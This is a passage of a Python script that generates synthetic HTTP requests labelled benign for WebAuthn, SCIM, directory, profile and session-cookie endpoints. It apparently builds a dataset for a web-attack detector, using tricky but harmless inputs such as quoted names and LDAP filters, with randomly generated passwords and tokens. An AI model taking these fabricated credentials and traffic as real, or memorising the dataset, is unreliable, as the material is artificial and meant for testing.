        cd["other_keys_can_be_added_here"] = "do not compare clientDataJSON against a template. See https://goo.gl/yabPex"
    return b64url(jdump(cd).encode())


def auth_data(rng, rp_id, attested=False):
    flags = 0x45 if attested else 0x05
    out = hashlib.sha256(rp_id.encode()).digest() + bytes([flags | (0x18 if rng.random() < 0.5 else 0)]) + struct.pack(">I", rng.randint(0, 500) if rng.random() < 0.5 else 0)
    cred = rng.randbytes(rng.choice([16, 32, 64]))
    if attested:
        cose = cbor({1: 2, 3: -7, -1: 1, -2: rng.randbytes(32), -3: rng.randbytes(32)})
        out += rng.randbytes(16) + struct.pack(">H", len(cred)) + cred + cose
    return out, cred


def benign_webauthn(c, rng):
    for i in range(32):
        app = rng.choice(APP_HOSTS)
        p = person(rng)
        k = i % 5
        if k == 0:
            c.add("benign", "webauthn", "POST", rng.choice(["/webauthn/register/options", "/api/passkeys/registration/begin", "/u/passkey-enrollment?state=hKFo2SB" + rtok(rng, 60, B64URL_ALPHA)]), app,
                  [origin(app)], jdump({"username": p["email"], "displayName": p["name"], "authenticatorSelection": {"residentKey": "required", "userVerification": "preferred", "authenticatorAttachment": rng.choice(["platform", "cross-platform"])},
                                        "attestation": rng.choice(["none", "direct"])}, ascii_=False), JSON)
        elif k in (1, 2):
            ad, cred = auth_data(rng, app, attested=True)
            fmt = rng.choice(["none", "packed", "apple", "fido-u2f"])
            att = {"fmt": fmt, "attStmt": {} if fmt == "none" else {"alg": -7, "sig": rng.randbytes(71), "x5c": [der_cert(rng, 600)]}, "authData": ad}
            body = {"id": b64url(cred), "rawId": b64url(cred), "type": "public-key",
                    "response": {"clientDataJSON": client_data(rng, "webauthn.create", f"https://{app}"), "attestationObject": b64url(cbor(att)),
                                 "transports": rng.choice([["internal", "hybrid"], ["usb", "nfc"], ["internal"]]),
                                 "publicKeyAlgorithm": -7, "publicKey": b64url(rng.randbytes(91)), "authenticatorData": b64url(ad)},
                    "clientExtensionResults": {"credProps": {"rk": True}}, "authenticatorAttachment": rng.choice(["platform", "cross-platform"])}
            wrapper = rng.choice([lambda b: b, lambda b: {"credential": b, "nickname": rng.choice(["MacBook Touch ID", "YubiKey 5C NFC", "Jane's Pixel", "Windows Hello – work laptop"])}])
            c.add("benign", "webauthn", "POST", rng.choice(["/webauthn/register", "/api/passkeys/registration/finish", "/api/v1/users/me/factors/webauthn/activate"]), app,
                  [origin(app), ["X-CSRF-Token", rtok(rng, 43, B64URL_ALPHA)]], jdump(wrapper(body), ascii_=False), JSON)
        elif k == 3:
            ad, cred = auth_data(rng, app)
            body = {"id": b64url(cred), "rawId": b64url(cred), "type": "public-key",
                    "response": {"authenticatorData": b64url(ad), "clientDataJSON": client_data(rng, "webauthn.get", f"https://{app}"),
                                 "signature": b64url(rng.randbytes(rng.choice([70, 71, 72, 256]))), "userHandle": b64url(rng.randbytes(16)) if rng.random() < 0.7 else None},
                    "clientExtensionResults": {}, "authenticatorAttachment": "platform"}
            if rng.random() < 0.5:
                body = {"assertion": body, "remember": True}
            c.add("benign", "webauthn", "POST", rng.choice(["/webauthn/login", "/api/passkeys/authentication/finish", "/api/auth/webauthn/verify"]), app, [origin(app)], jdump(body), JSON)
        else:
            # FIDO metadata statement imported by an administrator (MDS3 entry)
            mds = {"aaguid": ruuid(rng), "description": rng.choice(["YubiKey 5 Series with NFC", "Google Titan Security Key v2", "Feitian ePass FIDO2 Authenticator", "Windows Hello Hardware Authenticator"]),
                   "authenticatorVersion": rng.randint(1, 50000), "protocolFamily": "fido2", "schema": 3, "upv": [{"major": 1, "minor": 1}],
                   "authenticationAlgorithms": ["secp256r1_ecdsa_sha256_raw", "ed25519_eddsa_sha512_raw"], "publicKeyAlgAndEncodings": ["cose"],
                   "attestationTypes": ["basic_full"], "userVerificationDetails": [[{"userVerificationMethod": "passcode_external", "caDesc": {"base": 64, "minLength": 4}}]],
                   "keyProtection": ["hardware", "secure_element"], "matcherProtection": ["on_chip"], "attachmentHint": ["external", "wired", "wireless", "nfc"],
                   "attestationRootCertificates": [b64(der_cert(rng, 560))],
                   "icon": "data:image/png;base64," + b64(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(400)),
                   "authenticatorGetInfo": {"versions": ["U2F_V2", "FIDO_2_0", "FIDO_2_1"], "extensions": ["credProtect", "hmac-secret"], "aaguid": rhex(rng, 32),
                                            "options": {"rk": True, "up": True, "plat": False, "clientPin": True}, "maxMsgSize": 1200, "pinUvAuthProtocols": [2, 1]}}
            c.add("benign", "webauthn", "POST", "/admin/api/fido/metadata", app, [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/", scopes="admin:fido")]],
                  jdump({"statement": mds, "status": "FIDO_CERTIFIED_L1", "effectiveDate": "2026-11-30"}, compact=False), JSON)


# ---------------------------------------------------------------------------
# SCIM 2.0 and directories
# ---------------------------------------------------------------------------

SCIM_FILTERS = [
    'userName eq "{u}"', 'emails[type eq "work" and value co "@example.com"]', 'meta.lastModified gt "2026-05-13T04:42:34Z"',
    '(userName sw "J" or title pr) and not (userType eq "Intern")', 'externalId eq "{x}"', 'name.familyName co "O\'Brien"',
    'emails.value eq "{e}"', 'active eq true and meta.resourceType eq "User"', 'displayName eq "Sales & Marketing"',
    'members[value eq "{x}"]', 'userType eq "Employee" and (emails co "example.com" or emails.value co "example.org")',
    'urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:employeeNumber eq "701984"', 'title pr and userType eq "Contractor"',
    'addresses[type eq "work" and postalCode sw "D0"]',
]


def scim_user(rng, p):
    u = {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"],
         "externalId": rtok(rng, 10, string.digits) if rng.random() < 0.5 else ruuid(rng),
         "userName": p["email"] if "@" in p["email"] and '"' not in p["email"] else p["username"],
         "name": {"formatted": p["name"], "familyName": p["last"], "givenName": p["first"], "honorificPrefix": rng.choice(["Ms.", "Mr.", "Dr.", ""])},
         "displayName": p["name"], "nickName": p["first"].split()[0],
         "title": rng.choice(["Staff Engineer, Platform & Infra", "VP, Sales & Marketing", "Analyst (Risk/Compliance)", "Nurse – Ward 3B", "Director – R&D"]),
         "userType": rng.choice(["Employee", "Contractor", "Intern"]), "preferredLanguage": rng.choice(["en-US", "fr-CA", "de-DE", "ga-IE"]),
         "locale": "en-US", "timezone": rng.choice(["America/Los_Angeles", "Europe/Dublin", "Asia/Tokyo"]), "active": True,
         "emails": [{"value": p["email"], "type": "work", "primary": True}],
         "phoneNumbers": [{"value": rng.choice(PHONES), "type": "work"}],
         "addresses": [{"type": "work", "streetAddress": rng.choice(["100 Universal City Plaza", "12 O'Connell St.", "Rue de l'Église 7"]), "locality": "Hollywood",
                        "region": "CA", "postalCode": "91608", "country": "US", "formatted": "100 Universal City Plaza\nHollywood, CA 91608 USA", "primary": True}],
         "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"employeeNumber": str(rng.randint(100000, 999999)), "costCenter": "4130",
                                                                        "organization": rng.choice(COMPANIES), "division": "Theme Park", "department": rng.choice(["Tour Operations", "R&D", "Sales / EMEA"]),
                                                                        "manager": {"value": ruuid(rng), "displayName": person(rng)["name"]}}}
    if rng.random() < 0.5:
        u["password"] = gen_password(rng)
    return u


def benign_scim(c, rng):
    for i in range(44):
        p = person(rng)
        host = rng.choice(["api.example.com", "scim.acme-corp.com", "app.example.com", "portal.acme-corp.com"])
        base = rng.choice(["/scim/v2", "/api/scim/v2", "/scim", "/v2"])
        tok = rng.choice(["Bearer " + rtok(rng, 40, B64URL_ALPHA), "Bearer " + access_token(rng, "https://login.example.com/", scopes="scim:provision")])
        hs = [["Authorization", tok]]
        ua = rng.choice(["Microsoft Azure AD SCIM Client", "Okta SCIM Client 1.0.0", "OneLogin SCIM", "Go-http-client/2.0", "python-requests/2.32.3"])
        k = i % 9
        if k in (0, 1, 2):
            f = rng.choice(SCIM_FILTERS).format(u=p["username"].replace('"', ''), x=ruuid(rng), e=p["email"].replace('"', ''))
            ps = [("filter", f)]
            if rng.random() < 0.5:
                ps += [("startIndex", "1"), ("count", str(rng.choice([50, 100, 200])))]
            if rng.random() < 0.3:
                ps += [("attributes", "userName,emails,name.familyName,meta.lastModified"), ("sortBy", "name.familyName"), ("sortOrder", "descending")]
            if rng.random() < 0.2:
                ps.append(("excludedAttributes", "groups,members"))
            res = "Groups" if "members" in f or "displayName" in f else "Users"
            c.add("benign", "scim", "GET", f"{base}/{res}?" + query(ps, plus=rng.random() < 0.4), host, hs + [["Accept", SCIM]], ua=ua, browser=False)
        elif k == 3:
            c.add("benign", "scim", "POST", f"{base}/Users", host, hs, jdump(scim_user(rng, p), ascii_=False, compact=rng.random() < 0.5), SCIM, ua=ua, browser=False)
        elif k == 4:
            c.add("benign", "scim", "PUT", f"{base}/Users/{ruuid(rng)}", host, hs + [["If-Match", f'W/"{rhex(rng, 8)}"']], jdump(scim_user(rng, p), ascii_=False), SCIM, ua=ua, browser=False)
        elif k in (5, 6):
            ops = rng.sample([
                {"op": "replace", "path": 'emails[type eq "work"].value', "value": p["email"]},
                {"op": "Replace", "path": "active", "value": "False"},
                {"op": "replace", "value": {"name.givenName": p["first"], "name.familyName": p["last"], "title": "Principal Engineer – Identity"}},
                {"op": "add", "path": "phoneNumbers", "value": [{"type": "mobile", "value": rng.choice(PHONES)}]},
                {"op": "remove", "path": 'members[value eq "' + ruuid(rng) + '"]'},
                {"op": "Add", "path": "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:manager", "value": ruuid(rng)},
                {"op": "replace", "path": 'addresses[type eq "work"].streetAddress', "value": "Flat 2, 14 O'Connell St; Dublin 1"},
                {"op": "remove", "path": "x509Certificates"},
            ], rng.randint(1, 3))
            c.add("benign", "scim", "PATCH", f"{base}/Users/{ruuid(rng)}", host, hs, jdump({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], "Operations": ops}, ascii_=False), SCIM, ua=ua, browser=False)
        elif k == 7:
            c.add("benign", "scim", "PATCH", f"{base}/Groups/{ruuid(rng)}", host, hs,
                  jdump({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
                         "Operations": [{"op": "add", "path": "members", "value": [{"value": ruuid(rng), "display": person(rng)["name"]} for _ in range(rng.randint(1, 4))]},
                                        {"op": "replace", "path": "displayName", "value": rng.choice(["Sales & Marketing (EMEA)", "R&D – Platform", "O'Neill Lab members", "All Staff"])}]}, ascii_=False), SCIM, ua=ua, browser=False)
        else:
            ops = []
            for j in range(rng.randint(2, 4)):
                q_ = person(rng)
                ops.append({"method": "POST", "path": "/Users", "bulkId": f"qwerty{j}", "data": scim_user(rng, q_)})
            ops.append({"method": "DELETE", "path": f"/Users/{ruuid(rng)}", "version": f'W/"{rhex(rng, 8)}"'})
            c.add("benign", "scim", "POST", f"{base}/Bulk", host, hs, jdump({"schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"], "failOnErrors": 1, "Operations": ops}, ascii_=False), SCIM, ua=ua, browser=False)


def benign_directory(c, rng):
    for i in range(24):
        p = person(rng)
        app = rng.choice(["intranet.contoso.com", "people.uni.example.edu", "phonebook.acme-corp.com"])
        k = i % 6
        if k == 0:
            c.add("benign", "directory", "GET", "/directory/search?" + query([("q", rng.choice([p["last"], p["name"], p["last"][:3] + "*", p["first"] + " " + p["last"][:1] + "*"]))], plus=rng.random() < 0.5), app)
        elif k == 1:
            c.add("benign", "directory", "POST", "/people/search", app, [origin(app)],
                  form([("givenName", p["first"]), ("sn", p["last"]), ("ou", rng.choice(["Engineering", "R&D", "Finance & Ops", "People/HR"])), ("title", rng.choice(["Staff Engineer", "Nurse (RN)", "Lecturer – History", ""])),
                        ("location", rng.choice(["Building 4, Floor 2", "Dublin (HQ)", "Remote – EU"])), ("mail", "")]), FORM)
        elif k == 2:
            # Windows-style domain login on an LDAP-backed form
            dom = rng.choice(["CORP", "CONTOSO", "UNI"])
            u = rng.choice([f"{dom}\\{slug(p['first'])[:1]}{slug(p['last']).replace(' ', '').replace(chr(39), '')[:7]}", f"{slug(p['first'])}.{slug(p['last']).replace(' ', '')}@{dom.lower()}.example.com"])
            c.add("benign", "directory", "POST", "/ldap/login", app, [origin(app)], form([("username", u), ("password", any_password(rng)), ("domain", dom)]), FORM)
        elif k == 3:
            c.add("benign", "directory", "GET", "/api/directory/users?" + query([("department", rng.choice(["R&D", "Sales & Marketing", "Ops"])), ("manager", person(rng)["name"]), ("sort", "sn,givenName"), ("page", str(rng.randint(1, 9)))]), app,
                  [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]])
        elif k == 4:
            # Keycloak admin: LDAP user federation provider settings
            cfg = {"name": "corp-ldap", "providerId": "ldap", "providerType": "org.keycloak.storage.UserStorageProvider", "parentId": ruuid(rng),
                   "config": {"enabled": ["true"], "vendor": ["ad"], "connectionUrl": ["ldaps://dc01.corp.contoso.com:636"], "bindDn": ["CN=svc-keycloak,OU=Service Accounts,DC=corp,DC=contoso,DC=com"],
                              "bindCredential": [gen_password(rng, 24)], "usersDn": ["OU=Staff,DC=corp,DC=contoso,DC=com"],
                              "usernameLDAPAttribute": ["sAMAccountName"], "rdnLDAPAttribute": ["cn"], "uuidLDAPAttribute": ["objectGUID"],
                              "userObjectClasses": ["person, organizationalPerson, user"],
                              "customUserSearchFilter": [rng.choice(["(&(objectCategory=person)(memberOf=CN=Keycloak Users,OU=Groups,DC=corp,DC=contoso,DC=com))", "(!(userAccountControl:1.2.840.113556.1.4.803:=2))", "(employeeType=staff)"])],
                              "searchScope": ["2"], "pagination": ["true"], "editMode": ["READ_ONLY"], "syncRegistrations": ["false"]}}
            c.add("benign", "directory", "POST", "/admin/realms/acme/components", "keycloak.example.net",
                  [["Authorization", "Bearer " + access_token(rng, "https://keycloak.example.net/realms/master")], origin("keycloak.example.net")], jdump(cfg), JSON)
        else:
            c.add("benign", "directory", "GET", "/people/" + q(rng.choice([p["username"], p["email"]])) + "/vcard?format=vcf", app)


# ---------------------------------------------------------------------------
# account profile, tenant administration
# ---------------------------------------------------------------------------

BIOS = [
    "Engineer by day, amateur baker by night. I don't do mornings -- coffee first, then code. Opinions are my own (and my cat's).",
    "Mum of 2 & part-time marathoner. Ask me about trail routes in Wicklow; I'll bore you for hours :)",
    "Data nerd. I select the right tool for the job, drop what doesn't work, and join teams that ship. She/her.",
    "Building tools for nurses @ St. Mary's. Previously: O'Reilly, Acme Corp. <3 open source, climbing & bad puns.",
    "\"Simplicity is prerequisite for reliability.\" — Dijkstra. Rust, Go, and the occasional shell script.",
    "Retired teacher; now volunteering 3 days/week at the library (Tues, Thurs & Sat). Grandkids > everything.",
    "Product designer. Figma > Sketch? Let's argue. Based in Montréal; français/English OK.",
    "PhD candidate (CS) -- working on union-find variants & graph algorithms where n > 10^9. Previously at D'Angelo Labs.",
    "Just here for the cat pictures 🐈 and the occasional recipe. 1 part gin, 2 parts tonic; garnish with lime.",
    "I fix printers, reset passwords and answer \"is the Wi-Fi down?\" 40 times a day. IT @ Smith, Jones & Partners.",
    "Photographer | traveller | hopeless optimist. 50mm f/1.8 forever. Portfolio link below ->",
    "SRE. On call more than I'd like. If it's 3 a.m. and you're reading this: it's DNS. It's always DNS.",
    "Compliance & risk (SOX/GDPR). Yes, I'll ask you for the audit log. No, a screenshot isn't one.",
    "Full-stack dev: React/Node on the front, Postgres where it counts. Fan of 'boring' technology.",
    "Tabletop GM, cellist, and the person who brings the cookies. Null is my real surname -- please don't break my account.",
    "Nurse practitioner; 15 yrs ER & ICU. Views != employer's.",
    "مهندسة برمجيات في دبي. أحب القهوة والكتب.",
    "東京在住のエンジニアです。週末はカメラを持って散歩しています。",
]


def benign_profile(c, rng):
    for i in range(40):
        p = person(rng)
        app = rng.choice(APP_HOSTS)
        api = rng.choice(API_HOSTS)
        bearer = ["Authorization", "Bearer " + access_token(rng, f"https://{rng.choice(IDP_HOSTS)}/")]
        k = i % 8
        if k in (0, 1):
            body = {"displayName": p["name"], "bio": rng.choice(BIOS), "pronouns": rng.choice(["she/her", "he/him", "they/them", ""]),
                    "location": rng.choice(["Dublin, Ireland", "Montréal, QC", "São Paulo", "Zürich (CH)", "Bengaluru"]),
                    "website": rng.choice([f"https://{slug(p['first'])}.example.dev", f"https://github.com/{slug(p['first'])}", f"https://example.com/~{slug(p['last']).replace(' ', '')}/"]),
                    "timezone": rng.choice(["America/St_Johns", "Europe/Dublin", "Asia/Kolkata", "Australia/Lord_Howe"])}
            c.add("benign", "profile", rng.choice(["PATCH", "PUT"]), rng.choice(["/api/v1/users/me", "/api/account/profile", "/me"]), api, [bearer, origin(app)], jdump(body, ascii_=False), JSON)
        elif k == 2:
            body = form([("_method", "patch"), ("authenticity_token", rails_token(rng)), ("user[name]", p["name"]), ("user[bio]", rng.choice(BIOS)),
                         ("user[address_line1]", rng.choice(["Flat 3/12, O'Connell St", "1600 Amphitheatre Pkwy; Suite #200", "Apt. 4B, 221B Baker St.", "Rue de l'Église 7, 2e étage"])),
                         ("user[address_line2]", rng.choice(["c/o D'Souza", "Attn: Accounts Payable & Receivable", "", "PO Box 42 (rear entrance)"])),
                         ("user[city]", rng.choice(["Dublin", "London", "Mountain View", "Liège"])), ("user[postal_code]", rng.choice(["D01 F5P2", "NW1 6XE", "94043", "4000"])),
                         ("user[phone]", rng.choice(PHONES)), ("commit", "Update profile")])
            c.add("benign", "profile", "POST", "/users/edit", app, [origin(app)], body, FORM)
        elif k == 3:
            png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x80\x00\x00\x00\x80\x08\x06\x00\x00\x00" + rng.randbytes(rng.randint(900, 2500))
            c.add("benign", "profile", "PUT", "/api/me/avatar", api, [bearer], jdump({"filename": rng.choice(["me & my dog.png", "Mom's photo (1).png", "IMG_20261201_093012.png", "profilbild – neu.png", "avatar (cropped).png"]),
                                                                              "contentType": "image/png", "data": "data:image/png;base64," + b64(png), "crop": {"x": 12, "y": 40, "w": 256, "h": 256}}, ascii_=False), JSON)
        elif k == 4:
            svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128" viewBox="0 0 128 128"><title>{xml_escape(p["first"][0] + p["last"][0])} initials</title>'
                   f'<rect width="128" height="128" rx="64" fill="#{rhex(rng, 6)}"/><text x="50%" y="54%" dominant-baseline="middle" text-anchor="middle" font-family="Inter, sans-serif" font-size="52" fill="#fff">{xml_escape(p["first"][0] + p["last"][0])}</text></svg>')
            bnd = "----WebKitFormBoundary" + rtok(rng, 16)
            fname = rng.choice(["avatar.svg", "initials (1).svg", "d'angelo-avatar.svg"])
            body = (f"--{bnd}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{fname}\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n"
                    f"--{bnd}\r\nContent-Disposition: form-data; name=\"crop\"\r\n\r\n{jdump({'x': 0, 'y': 0, 'size': 128})}\r\n--{bnd}--\r\n")
            c.add("benign", "profile", "POST", "/settings/avatar", app, [origin(app), ["X-CSRF-Token", rtok(rng, 43, B64URL_ALPHA)]], body, f"multipart/form-data; boundary={bnd}")
        elif k == 5:
            body = {"email": p["email"], "emailVerified": False, "phone": rng.choice(PHONES), "notifications": {"security": True, "marketing": False, "digest": "weekly"},
                    "locale": rng.choice(["en-IE", "fr-CA", "pt-BR", "ja-JP"]), "dateFormat": rng.choice(["dd/MM/yyyy", "MM/dd/yyyy", "yyyy-MM-dd"]),
                    "signature": rng.choice(["-- \nJane O'Brien | Acme Corp.\n\"Be kind; everyone is fighting a hard battle.\"", "Cheers,\nM. D'Angelo\n+39 06 1234 5678", "Sent from my phone -- please excuse typos & brevity"])}
            c.add("benign", "profile", "PUT", "/api/account/settings", api, [bearer], jdump(body, ascii_=False), JSON)
        elif k == 6:
            c.add("benign", "profile", "POST", "/account/email/change", app, [origin(app)],
                  form([("new_email", p["email"]), ("confirm_email", p["email"]), ("current_password", any_password(rng)), ("csrf_token", csrf(rng))]), FORM)
        else:
            c.add("benign", "profile", "DELETE", f"/api/me/sessions/{ruuid(rng)}", api, [bearer])
    # identity-tenant administration: e-mail templates, custom messages, rules
    templates = [
        ("Auth0 e-mail template (Liquid)", "PATCH", "/api/v2/email-templates/verify_email", "acme.eu.auth0.com",
         {"template": "verify_email", "from": "ACME Support <support@acme-corp.com>", "subject": "Verify your e-mail, {{ user.name }}",
          "body": "<html><body><p>Hi {% if user.given_name %}{{ user.given_name }}{% else %}there{% endif %},</p><p>Please <a href=\"{{ url }}\">verify your e-mail</a>. The link expires in 5 days.</p>{% if application.name == 'Mobile' %}<p>Open the app afterwards.</p>{% endif %}<p>— The {{ application.name }} team</p></body></html>",
          "resultUrl": "https://app.example.com/verified?from=email", "urlLifetimeInSeconds": 432000, "enabled": True, "syntax": "liquid"}),
        ("Cognito custom message", "POST", "/", "cognito-idp.eu-west-1.amazonaws.com",
         {"UserPoolId": "eu-west-1_Ab12Cd34E", "VerificationMessageTemplate": {"SmsMessage": "Your ACME code is {####}", "EmailMessage": "Hello {username}, your verification code is {####}. It expires in 24h.",
                                                                            "EmailSubject": "Your ACME verification code", "DefaultEmailOption": "CONFIRM_WITH_CODE"}}),
        ("Okta expression", "PUT", "/api/v1/apps/0oa" + "x" * 17 + "/mappings", "acme-admin.okta.com",
         {"properties": {"displayName": {"expression": "user.firstName + \" \" + user.lastName", "pushStatus": "PUSH"},
                         "nickname": {"expression": "String.substringBefore(user.email, \"@\")"}, "department": {"expression": "user.department != null ? user.department : \"Unassigned\""}}}),
        ("Auth0 Action", "PATCH", "/api/v2/actions/actions/" + "a" * 8, "acme.eu.auth0.com",
         {"name": "Require verified email", "code": "exports.onExecutePostLogin = async (event, api) => {\n  if (!event.user.email_verified) {\n    api.access.deny('Please verify your e-mail before logging in.');\n  }\n  const ns = 'https://acme-corp.com/';\n  api.idToken.setCustomClaim(`${ns}roles`, event.authorization?.roles || []);\n};\n",
          "runtime": "node18", "supported_triggers": [{"id": "post-login", "version": "v3"}]}),
        ("Keycloak theme message", "PUT", "/admin/realms/acme/localization/fr", "keycloak.example.net",
         {"loginAccountTitle": "Connectez-vous à votre compte", "doForgotPassword": "Mot de passe oublié ?", "invalidUserMessage": "Nom d'utilisateur ou mot de passe invalide.",
          "emailVerificationBody": "Quelqu'un a créé un compte {2} avec cette adresse. Si c'était vous, cliquez sur le lien : {0}\n\nCe lien expire dans {3}."}),
    ]
    for i in range(10):
        name, m, path, host, body = templates[i % len(templates)]
        hs = [["Authorization", "Bearer " + access_token(rng, f"https://{host}/", scopes="update:email_templates")]]
        ct = JSON
        if host.startswith("cognito"):
            hs.append(["X-Amz-Target", "AWSCognitoIdentityProviderService.UpdateUserPool"])
            ct = "application/x-amz-json-1.1"
        c.add("benign", "tenant-admin", m, path, host, hs, jdump(body, ascii_=False, compact=i % 2 == 0), ct)


# ---------------------------------------------------------------------------
# session cookies and Authorization headers
# ---------------------------------------------------------------------------

def laravel_cookie(rng):
    return q(b64(jdump({"iv": b64(rng.randbytes(16)), "value": b64(rng.randbytes(rng.choice([48, 96, 224]))), "mac": rhex(rng, 64), "tag": ""}).encode()))


def session_cookie(rng, p):
    k = rng.randrange(12)
    iss = "https://keycloak.example.net/realms/acme"
    if k == 0:
        sid = ruuid(rng)
        ident = jwt(rng, {"exp": 1765000000, "iat": 1764960000, "jti": ruuid(rng), "iss": iss, "sub": ruuid(rng), "typ": "Serialized-ID", "sid": sid, "state_checker": rtok(rng, 43, B64URL_ALPHA)}, alg="HS512")
        return "keycloak.example.net", (f"AUTH_SESSION_ID={sid}.keycloak-{rng.randint(0, 2)}; AUTH_SESSION_ID_LEGACY={sid}.keycloak-0; KEYCLOAK_IDENTITY={ident}; "
                                        f"KEYCLOAK_IDENTITY_LEGACY={ident}; KEYCLOAK_SESSION=acme/{ruuid(rng)}/{sid}; KEYCLOAK_SESSION_LEGACY=acme/{ruuid(rng)}/{sid}")
    if k == 1:
        cid = rtok(rng, 32)
        tx = q(jdump({"nonce": rtok(rng, 43, B64URL_ALPHA), "code_verifier": pkce(rng)[0], "scope": "openid profile email offline_access", "audience": "https://api.example.com/",
                      "redirect_uri": "https://app.example.com/callback", "state": rtok(rng, 43, B64URL_ALPHA)}))
        return "app.example.com", (f"auth0=s%3A{rtok(rng, 32, B64URL_ALPHA)}.{rtok(rng, 43, B64URL_ALPHA)}; auth0_compat=s%3A{rtok(rng, 32, B64URL_ALPHA)}.{rtok(rng, 43, B64URL_ALPHA)}; "
                                   f"did=s%3Av0%3A{ruuid(rng)}.{rtok(rng, 43, B64URL_ALPHA)}; a0.spajs.txs.{cid}={tx}; auth0.{cid}.is.authenticated=true; _legacy_auth0.{cid}.is.authenticated=true")
    if k == 2:
        return "acme.okta.com", (f"sid=102{rtok(rng, 22, B64URL_ALPHA)}; JSESSIONID={rhex(rng, 32).upper()}; DT=DI1{rtok(rng, 40, B64URL_ALPHA)}; t=default; "
                                 f"xids=\"{rtok(rng, 20, B64URL_ALPHA)}\"; ln={q(p['email'])}; okta-oauth-nonce={rtok(rng, 64)}; okta-oauth-state={rtok(rng, 64)}; proximity_{rhex(rng, 32)}={b64(rng.randbytes(300))}")
    if k == 3:
        cid = rtok(rng, 26, string.ascii_lowercase + string.digits)
        user = ruuid(rng)
        pre = f"CognitoIdentityServiceProvider.{cid}"
        return "app.example.com", (f"{pre}.LastAuthUser={user}; {pre}.{user}.idToken={id_token(rng, 'https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Ab12Cd34E', cid, p)}; "
                                   f"{pre}.{user}.accessToken={access_token(rng, 'https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Ab12Cd34E', scopes='aws.cognito.signin.user.admin')}; "
                                   f"{pre}.{user}.refreshToken={jwe(rng)}; {pre}.{user}.clockDrift=0; amplify-signin-with-hostedUI=false")
    if k == 4:
        return "portal.acme-corp.com", (f".AspNetCore.Antiforgery.{rtok(rng, 11, B64URL_ALPHA)}={aspnet_token(rng, 120)}; .AspNetCore.Identity.Application={aspnet_token(rng, rng.randint(400, 900))}; "
                                        f"ARRAffinity={rhex(rng, 64)}; ARRAffinitySameSite={rhex(rng, 64)}; .AspNetCore.Culture=c%3Dfr-FR%7Cuic%3Dfr-FR")
    if k == 5:
        return "www.example.org", f"csrftoken={rtok(rng, 64)}; sessionid={rtok(rng, 32, string.ascii_lowercase + string.digits)}; django_language=fr; messages=\"{rhex(rng, 40)}$[[\\\"__json_message\\\"\\0540\\05425\\054\\\"Welcome back, {p['first']}!\\\"]]\""
    if k == 6:
        return "shop.example.net", (f"_shop_session={q(b64(rng.randbytes(rng.randint(150, 400))))}--{q(b64(rng.randbytes(12)))}--{q(b64(rng.randbytes(16)))}; "
                                    f"remember_user_token={q(b64(rng.randbytes(120)))}--{rhex(rng, 40)}; cookies_accepted=analytics%2Cpreferences")
    if k == 7:
        return "crm.contoso.com", f"XSRF-TOKEN={laravel_cookie(rng)}; crm_session={laravel_cookie(rng)}; remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d={laravel_cookie(rng)}"
    if k == 8:
        return "dashboard.fabrikam.io", f"connect.sid=s%3A{rtok(rng, 32, B64URL_ALPHA)}.{rtok(rng, 43, string.ascii_letters + string.digits + '+/')}; theme=dark; tz=Europe%2FDublin"
    if k == 9:
        return "admin.initech.example", (f"SESSION={b64(ruuid(rng).encode())}; XSRF-TOKEN={ruuid(rng)}; "
                                         f"remember-me={b64((p['username'] + ':' + str(1767000000000 + rng.randint(0, 10**9)) + ':SHA256:' + rhex(rng, 64)).encode())}")
    if k == 10:
        h = rhex(rng, 32)
        return "blog.example.com", (f"wordpress_sec_{h}={q(p['username'])}%7C1765{rng.randint(100000, 999999)}%7C{rtok(rng, 43)}%7C{rhex(rng, 64)}; "
                                    f"wordpress_logged_in_{h}={q(p['username'])}%7C1765{rng.randint(100000, 999999)}%7C{rtok(rng, 43)}%7C{rhex(rng, 64)}; "
                                    f"wp-settings-1=libraryContent%3Dbrowse%26mfold%3Do%26editor%3Dhtml%26posts_list_mode%3Dlist; wp-settings-time-1=1764{rng.randint(100000, 999999)}")
    return "wiki.uni.example.edu", (f"_shibsession_{rhex(rng, 40)}=_{rhex(rng, 32)}; _saml_idp={q(b64(('https://idp.uni.example.edu/idp/shibboleth').encode()))}; "
                                    f"PHPSESSID={rtok(rng, 26, string.ascii_lowercase + string.digits)}; mw_prefs=%7B%22skin%22%3A%22vector-2022%22%2C%22lang%22%3A%22ga%22%7D")


def benign_session(c, rng):
    for i in range(38):
        p = person(rng)
        k = i % 6
        if k in (0, 1, 2):
            host, cookie = session_cookie(rng, p)
            c.add("benign", "session-headers", "GET", rng.choice(APP_PATHS + ["/account", "/api/me", "/profile/security"]), host, [["Cookie", cookie], referer(f"https://{host}/")])
        elif k == 3:
            api = rng.choice(API_HOSTS)
            tok = rng.choice([access_token(rng, f"https://{rng.choice(IDP_HOSTS)}/"), "gho_" + rtok(rng, 36), "ya29." + rtok(rng, 150, B64URL_ALPHA), "EwB" + rtok(rng, 1400, string.ascii_letters + string.digits + "+/") + "==",
                              "00D" + rtok(rng, 12) + "!AQ" + rtok(rng, 90, string.ascii_letters + string.digits + "._")])
            c.add("benign", "session-headers", rng.choice(["GET", "GET", "DELETE"]), rng.choice(["/v1/orders?status=open&limit=50", "/api/me", "/v2/users/" + ruuid(rng), "/graph/me/memberOf?$select=displayName,id&$top=50"]),
                  api, [["Authorization", "Bearer " + tok]], ua=rng.choice(SERVER_UAS + APP_UAS), browser=False)
        elif k == 4:
            api = rng.choice(API_HOSTS)
            pw = any_password(rng)
            user = rng.choice([p["username"], p["email"], "svc-backup", "api"])
